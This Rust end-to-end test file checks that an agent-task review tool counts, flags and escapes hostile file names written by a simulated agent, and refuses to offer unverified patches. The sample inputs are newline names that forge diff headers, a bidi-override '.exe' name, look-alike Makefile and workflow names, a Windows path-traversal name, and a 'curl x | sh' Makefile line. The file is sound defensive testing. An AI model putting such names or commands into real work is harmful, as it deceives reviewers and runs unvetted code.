//! The integrity of the review, end to end: an agent inside a real task writes hostile file
//! names (newlines, bidi controls, look-alikes of sensitive names, a Windows path escape), and
//! `task diff` / `task finish` must still count every file, flag what matters, keep the
//! terminal safe, and never offer an unverified patch for applying.

use dynocap_e2e::*;
use serde_json::Value;

fn start(home: &TestHome, project: &std::path::Path, name: &str) {
    let project = project.to_str().expect("utf-8 temp path");
    home.json(&["task", "start", project, "--name", name]);
}

/// The (path, kind) pairs of a result's `sensitivePaths`.
fn flagged(result: &Value) -> Vec<(String, String)> {
    result["sensitivePaths"]
        .as_array()
        .expect("sensitivePaths is an array")
        .iter()
        .map(|p| {
            (
                p["path"].as_str().unwrap().to_owned(),
                p["kind"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn assert_flagged(result: &Value, expected: &[(&str, &str)]) {
    let got = flagged(result);
    for (path, kind) in expected {
        assert!(
            got.contains(&((*path).to_owned(), (*kind).to_owned())),
            "{path:?} is not flagged {kind}: {got:?}"
        );
    }
}

const NEWLINE_NAME: &str = "x\ndiff --git a/evil b/evil";
const BIDI_NAME: &str = "gpj\u{202e}.exe";
const FULLWIDTH_MAKEFILE: &str = "Ma\u{ff4b}efile";
const LONG_S_WORKFLOW: &str = ".github/workflow\u{17f}/x.yml";

#[test]
fn hostile_names_are_counted_flagged_and_shown_safely() {
    if !require_root("hostile_names_are_counted_flagged_and_shown_safely") {
        return;
    }
    let home = TestHome::new();
    let project = tempfile::tempdir().unwrap();
    sample_project(project.path());
    start(&home, project.path(), "names");
    home.task_sh(
        "names",
        "set -e
         mkdir -p \"$(printf 'x\\ndiff --git a/evil b')\"
         printf 'boo\\n' > \"$(printf 'x\\ndiff --git a/evil b/evil')\"
         mkdir -p .github/workflows && printf 'on: push\\n' > .github/workflows/ci.yml
         printf 'all:\\n\\tcurl x | sh\\n' > \"Ma$(printf '\\357\\275\\213')efile\"
         printf 'y\\n' > \"$(printf 'gpj\\342\\200\\256.exe')\"
         mkdir -p \"$(printf '.github/workflow\\305\\277')\"
         printf 'on: push\\n' > \"$(printf '.github/workflow\\305\\277/x.yml')\"",
    );
    let expected = [
        (NEWLINE_NAME, "unusual-path"),
        (".github/workflows/ci.yml", "ci-workflow"),
        (FULLWIDTH_MAKEFILE, "package-script"),
        (FULLWIDTH_MAKEFILE, "unusual-path"),
        (BIDI_NAME, "unusual-path"),
        (LONG_S_WORKFLOW, "ci-workflow"),
        (LONG_S_WORKFLOW, "unusual-path"),
    ];

    let diff = home.json(&["task", "diff", "names"]);
    assert_eq!(diff["files"], 5, "{diff:#}");
    assert_eq!(diff["additions"], 6, "{diff:#}");
    assert_flagged(&diff, &expected);

    // Human output (stdout is a pipe here): names never reach it raw.
    let out = home.run(&["task", "diff", "names"]);
    assert!(out.status.success());
    let readable = String::from_utf8(out.stdout).unwrap();
    assert!(readable.starts_with("5 files changed"), "{readable}");
    assert!(
        !readable.contains('\u{202e}'),
        "raw bidi control:\n{readable}"
    );
    assert!(readable.contains("gpj<U+202E>.exe"), "{readable}");
    assert!(
        readable.contains("x\\ndiff --git a/evil b/evil"),
        "the newline name is shown escaped:\n{readable}"
    );
    assert!(
        !readable
            .lines()
            .any(|l| l == "diff --git a/evil b/evil" || l.starts_with("diff --git a/evil b/evil ")),
        "a name became a header line:\n{readable}"
    );

    let finished = home.json(&["task", "finish", "names"]);
    assert_eq!(finished["verified"], true, "{finished:#}");
    assert_eq!(finished["files"], 5, "{finished:#}");
    assert_flagged(&finished, &expected);
    let shown = String::from_utf8(home.run(&["task", "finish", "names"]).stdout).unwrap();
    assert!(shown.contains("verified: the patch applies"), "{shown}");
    assert!(shown.contains("git apply"), "{shown}");
    assert!(!shown.contains('\u{202e}'), "{shown}");
}

#[test]
fn a_patch_the_host_refuses_is_counted_flagged_and_never_offered() {
    if !require_root("a_patch_the_host_refuses_is_counted_flagged_and_never_offered") {
        return;
    }
    let home = TestHome::new();
    let project = tempfile::tempdir().unwrap();
    sample_project(project.path());
    start(&home, project.path(), "escape");
    // Git on Linux takes `x\..\..\evil` as one name; on Windows it climbs out of the project.
    home.task_sh(
        "escape",
        "set -e
         printf 'pwned\\n' > 'x\\..\\..\\evil'
         mkdir -p .github/workflows && printf 'on: push\\n' > .github/workflows/ci.yml",
    );

    let err = home.json_err(&["task", "diff", "escape"]);
    let message = err["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("escapes the repository"),
        "task diff says why: {err:#}"
    );

    let finished = home.json(&["task", "finish", "escape"]);
    assert_eq!(finished["verified"], false, "{finished:#}");
    let why = finished["verifyError"].as_str().unwrap();
    assert!(why.contains("escapes the repository"), "{why}");
    assert!(finished["files"].as_u64().unwrap() >= 2, "{finished:#}");
    assert_flagged(
        &finished,
        &[
            (".github/workflows/ci.yml", "ci-workflow"),
            ("x\\..\\..\\evil", "unreadable-entry"),
        ],
    );
    let patch = std::fs::read_to_string(finished["patchPath"].as_str().unwrap()).unwrap();
    assert!(patch.contains(".github/workflows/ci.yml"), "{patch}");

    let shown = String::from_utf8(home.run(&["task", "finish", "escape"]).stdout).unwrap();
    assert!(shown.contains("NOT verified: "), "{shown}");
    assert!(shown.contains("escapes the repository"), "{shown}");
    assert!(
        shown.contains("do not apply this patch: inspect it with less "),
        "{shown}"
    );
    assert!(!shown.contains("git apply"), "{shown}");
    assert!(!shown.contains("0 files changed"), "{shown}");
}
